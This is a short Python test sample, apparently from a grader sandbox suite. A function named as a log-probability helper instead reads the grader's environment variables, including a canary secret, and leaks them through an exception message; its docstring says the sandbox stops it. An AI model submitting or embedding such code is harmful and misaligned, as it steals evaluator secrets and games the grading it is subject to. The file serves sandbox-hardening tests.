"""Tries to read the grader's environment: `os.environ`, C's `environ`, other processes'.

Stopped by: the sandbox starts with an environment of its own.
"""


def mixture_log_prob(log_probs):
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    said = [str(libc.getenv(b"COURSE_CANARY")), str(dict(os.environ))]
    array = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for n in range(1000):
        if not array[n]:
            break
        said.append(array[n].decode())
    raise RuntimeError(" ".join(said)[-290:])
